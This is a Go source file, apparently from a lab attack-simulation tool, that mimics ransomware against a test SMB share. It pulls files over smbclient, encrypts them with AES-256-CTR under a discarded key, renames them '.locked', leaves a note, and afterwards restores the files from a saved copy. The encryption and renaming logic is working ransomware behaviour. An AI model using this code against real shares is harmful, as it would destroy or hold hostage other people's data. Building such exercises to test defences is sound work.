package attack

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"github.com/cordonhq/cordon/internal/lab"
)

const (
	lockedEnding = ".locked"
	note         = "README_TO_RESTORE.txt"
	noteText     = "This is a note of the lab's harmless encryptor. Your files were encrypted by an exercise, and come back at its end."
	// mostFolders bounds how much of the share is encrypted.
	mostFolders = 64
)

// encryptShare does over SMB what ransomware does: of each file on the share,
// read it, encrypt it, write it back, give it a new name; and leave a note. The
// share's files are put back from a copy in the end, not over the network.
func encryptShare(ctx context.Context, s *stage) error {
	folder := filepath.Join(lab.Dir, "files", "clinical")
	if err := s.keepFolder(folder); err != nil {
		return fmt.Errorf("copy the share: %w", err)
	}
	sel := s.to("files", "tcp", 445)
	var cases []string
	err := s.step(ctx, "list the share", []Selector{sel}, func(ctx context.Context) (string, error) {
		out, err := s.smb(ctx, "ls case-*")
		for line := range strings.SplitSeq(out, "\n") {
			if f := strings.Fields(line); len(f) > 1 && strings.HasPrefix(f[0], "case-") && f[1] == "D" && len(cases) < mostFolders {
				cases = append(cases, f[0])
			}
		}
		if err == nil && len(cases) == 0 {
			err = errors.New("nothing is there")
		}
		return fmt.Sprintf("%d folders", len(cases)), err
	})
	if err != nil {
		return err
	}
	err = s.step(ctx, "read, encrypt, write back, rename", []Selector{sel}, func(ctx context.Context) (string, error) {
		if len(cases) == 0 {
			return "", errSkipped
		}
		ctx, cancel := s.bounded(ctx)
		defer cancel()
		key := make([]byte, 32)
		if _, err := rand.Read(key); err != nil {
			return "", err
		}
		total := 0
		for _, c := range cases {
			n, err := s.encryptFolder(ctx, c, key)
			total += n
			if ctx.Err() != nil && total > 0 {
				break // the time is over
			}
			if err != nil {
				return fmt.Sprintf("%d files", total), err
			}
		}
		if total == 0 {
			return "", errors.New("no file was encrypted")
		}
		return fmt.Sprintf("%d files", total), nil
	})
	if err != nil {
		return err
	}
	return s.step(ctx, "leave a note", []Selector{sel}, func(ctx context.Context) (string, error) {
		if _, err := s.file(note, noteText); err != nil {
			return "", err
		}
		_, err := s.smb(ctx, "put "+note)
		return "", err
	})
}

// smb runs commands of smbclient on the share, as a guest. Its caches stay in
// the lab.
func (s *stage) smb(ctx context.Context, commands ...string) (string, error) {
	path, err := s.file("smbclient.conf", "[global]", "workgroup = CLINIC",
		"private dir = "+s.dir, "state directory = "+s.dir, "cache directory = "+s.dir, "lock directory = "+s.dir)
	if err != nil {
		return "", err
	}
	return s.tool(ctx, "smbclient", "-s", path, "//"+ipOf("files")+"/clinical", "-N", "-t", "10", "-c", strings.Join(commands, "; "))
}

// encryptFolder encrypts the files of one folder of the share and returns how
// many.
func (s *stage) encryptFolder(ctx context.Context, folder string, key []byte) (int, error) {
	local := filepath.Join(s.dir, folder)
	if err := os.MkdirAll(local, 0o700); err != nil {
		return 0, err
	}
	enter := []string{"lcd " + folder, "cd " + folder}
	if _, err := s.smb(ctx, append(enter, "prompt", "mget *.txt")...); err != nil {
		return 0, err
	}
	files, err := filepath.Glob(filepath.Join(local, "*.txt"))
	if err != nil {
		return 0, err
	}
	write := enter
	for _, f := range files {
		if err := encryptFile(f, key); err != nil {
			return 0, err
		}
		name := filepath.Base(f)
		write = append(write, "put "+name, fmt.Sprintf("rename %s %s%s", name, name, lockedEnding))
	}
	if _, err := s.smb(ctx, write...); err != nil {
		return 0, err
	}
	return len(files), nil
}

// encryptFile encrypts one file in place with AES-256 in counter mode.
func encryptFile(path string, key []byte) error {
	text, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return err
	}
	out := make([]byte, aes.BlockSize+len(text))
	if _, err := rand.Read(out[:aes.BlockSize]); err != nil {
		return err
	}
	cipher.NewCTR(block, out[:aes.BlockSize]).XORKeyStream(out[aes.BlockSize:], text)
	return os.WriteFile(path, out, 0o600)
}

// keepFolder copies a folder of the lab aside, and puts it back when the run
// ends.
func (s *stage) keepFolder(folder string) error {
	kept := filepath.Join(s.dir, "kept")
	if err := os.CopyFS(kept, os.DirFS(folder)); err != nil {
		return err
	}
	s.afterwards(func() error {
		for _, pattern := range []string{"*" + lockedEnding, "*/*" + lockedEnding, note} {
			found, err := filepath.Glob(filepath.Join(folder, pattern))
			if err != nil {
				return err
			}
			for _, f := range found {
				if err := os.Remove(f); err != nil {
					return err
				}
			}
		}
		return putBack(kept, folder)
	})
	return nil
}

// putBack writes the files of a copy over those that are there; anybody may
// write them, as before.
func putBack(kept, folder string) error {
	return fs.WalkDir(os.DirFS(kept), ".", func(path string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		b, err := os.ReadFile(filepath.Join(kept, path))
		if err != nil {
			return err
		}
		to := filepath.Join(folder, path)
		if err := os.WriteFile(to, b, 0o666); err != nil {
			return err
		}
		return os.Chmod(to, 0o666)
	})
}
